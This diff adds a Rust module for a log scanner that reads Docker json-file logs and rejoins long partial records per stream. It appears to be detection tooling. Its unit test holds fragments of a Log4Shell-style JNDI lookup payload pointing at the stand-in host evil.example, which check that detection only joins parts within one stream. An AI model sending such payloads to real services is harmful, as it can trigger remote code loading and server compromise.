@@ -1,0 +1,160 @@
+//! Docker json-file logs: one `{"log","stream","time"}` object per line. A record is decoded
+//! only when it is a candidate (or a part); messages longer than Docker's 16 KiB copy buffer
+//! come in parts whose `log` lacks the final newline, joined per stream (across rotated
+//! files too) before they are evaluated. The record's time and stream are the object's.
+
+use serde::Deserialize;
+
+use super::{without_bom, Cutter, Framing};
+use crate::logscan::records::{trim_cr, Line, Pending, Records};
+use crate::model::{Diagnostic, Timestamp};
+
+/// Docker's log copier cuts messages longer than its 16 KiB buffer into parts whose `log`
+/// lacks the final newline. A shorter record without a newline is not a part: it is the last
+/// output of a process that exited without printing one, complete as it is.
+const PART_SIZE: usize = 16 * 1024;
+
+/// The json-file log driver's format.
+#[derive(Clone, Copy, Debug)]
+pub struct JsonFile;
+
+impl Framing for JsonFile {
+    fn name(&self) -> &'static str {
+        "json-file"
+    }
+
+    fn sniff(&self, head: &[u8]) -> bool {
+        without_bom(head).starts_with(b"{\"log\":")
+    }
+
+    fn cutter(&self) -> Box<dyn Cutter> {
+        Box::<JsonFileCutter>::default()
+    }
+
+    fn rotated(&self) -> bool {
+        true
+    }
+}
+
+#[derive(Deserialize)]
+struct JsonRecord {
+    #[serde(default)]
+    log: String,
+    #[serde(default)]
+    stream: Option<String>,
+    #[serde(default)]
+    time: Option<String>,
+}
+
+#[derive(Default)]
+struct JsonFileCutter {
+    /// Pieces of lines longer than the read buffer, searched as text.
+    long_pieces: u64,
+}
+
+impl Cutter for JsonFileCutter {
+    fn line(&mut self, line: Line<'_>, out: &mut Records<'_>) {
+        let raw = trim_cr(line.bytes);
+        let (number, offset) = (line.number, line.offset);
+        if raw.is_empty() {
+            return;
+        }
+        let partial =
+            raw.starts_with(b"{\"log\":\"") && memchr::memmem::rfind(raw, b"\\n\",\"stream\"").is_none();
+        if !partial && !out.has_pending() && !out.is_candidate(raw) {
+            return;
+        }
+        let rec: JsonRecord = match serde_json::from_slice(raw) {
+            Ok(r) => r,
+            Err(_) => {
+                out.not_json(raw, number, offset);
+                return;
+            }
+        };
+        let time = rec.time.as_deref().and_then(Timestamp::parse_rfc3339);
+        let stream = rec.stream.unwrap_or_default();
+        let ends = rec.log.ends_with('\n');
+        let mut text = rec.log.into_bytes();
+        if let Some(mut p) = out.take_pending(&stream) {
+            p.text.extend_from_slice(&text);
+            if ends || p.text.len() >= out.cfg().max_join {
+                p.time = p.time.or(time);
+                out.emit(p, &stream);
+            } else {
+                out.hold(stream, p);
+            }
+            return;
+        }
+        if !ends && text.len() >= PART_SIZE {
+            text.truncate(out.cfg().max_join);
+            out.hold(stream, Pending { text, line: number, offset, time, origin: None });
+            return;
+        }
+        out.message(&text, number, offset, time, &stream);
+    }
+
+    fn long_piece(&mut self, _first: bool, _out: &mut Records<'_>) {
+        self.long_pieces += 1;
+    }
+
+    fn diagnostics(&self, out: &Records<'_>) -> Vec<Diagnostic> {
+        if self.long_pieces == 0 {
+            return vec![];
+        }
+        vec![Diagnostic::warning(
+            out.locator().clone(),
+            format!(
+                "{} piece(s) of json-file lines longer than {} bytes scanned as plain text",
+                self.long_pieces,
+                out.cfg().buf_size
+            ),
+        )]
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::logscan::engine::Engine;
+    use crate::logscan::framing::cri::Cri;
+    use crate::logscan::records::ScanConfig;
+    use crate::logscan::stream::scan_stream;
+    use crate::model::Locator;
+
+    #[test]
+    fn partial_records_never_join_across_streams() {
+        // Half a payload on stderr (a `P` part), the other half on stdout: two streams, no
+        // message holds `${jndi:...}`, so no hit may be made up by joining them.
+        let engine = Engine::builtin().unwrap();
+        let loc = Locator::artifact("0.log");
+        let cfg = ScanConfig::default();
+        let cri = b"2026-11-27T14:00:01.000000000Z stderr P GET /?q=${jn\n\
+2026-11-27T14:00:01.000000001Z stdout F di:ldap://evil.example/a}\n\
+2026-11-27T14:00:01.000000002Z stderr F  tail of the stderr message\n";
+        let scan = scan_stream(&cri[..], &Cri, &engine, &cfg, &loc, 0);
+        assert!(scan.hits.iter().all(|h| h.found.jndi.is_none()), "{:?}", scan.hits.len());
+        // The same in json-file: a 16 KiB stderr part without `\n`, then a stdout record.
+        let pad = "x".repeat(PART_SIZE);
+        let json = format!(
+            "{{\"log\":\"{pad}${{jn\",\"stream\":\"stderr\",\"time\":\"2026-11-27T14:00:00Z\"}}\n\
+{{\"log\":\"di:ldap://evil.example/a}}\\n\",\"stream\":\"stdout\",\"time\":\"2026-11-27T14:00:01Z\"}}\n\
+{{\"log\":\"end\\n\",\"stream\":\"stderr\",\"time\":\"2026-11-27T14:00:02Z\"}}\n"
+        );
+        let scan = scan_stream(json.as_bytes(), &JsonFile, &engine, &cfg, &loc, 0);
+        assert!(scan.hits.iter().all(|h| h.found.jndi.is_none()));
+        // Joined within its own stream, the payload is found, on the line it starts.
+        let json = format!(
+            "{{\"log\":\"{pad}${{jn\",\"stream\":\"stderr\",\"time\":\"2026-11-27T14:00:00Z\"}}\n\
+{{\"log\":\"GET / 200\\n\",\"stream\":\"stdout\",\"time\":\"2026-11-27T14:00:01Z\"}}\n\
+{{\"log\":\"di:ldap://evil.example/a}}\\n\",\"stream\":\"stderr\",\"time\":\"2026-11-27T14:00:02Z\"}}\n"
+        );
+        let scan = scan_stream(json.as_bytes(), &JsonFile, &engine, &cfg, &loc, 0);
+        let hits: Vec<_> = scan
+            .hits
+            .iter()
+            .filter(|h| h.found.jndi.is_some())
+            .map(|h| (h.locator.line, h.stream.clone()))
+            .collect();
+        assert_eq!(hits, [(Some(1), Some("stderr".to_string()))]);
+    }
+}
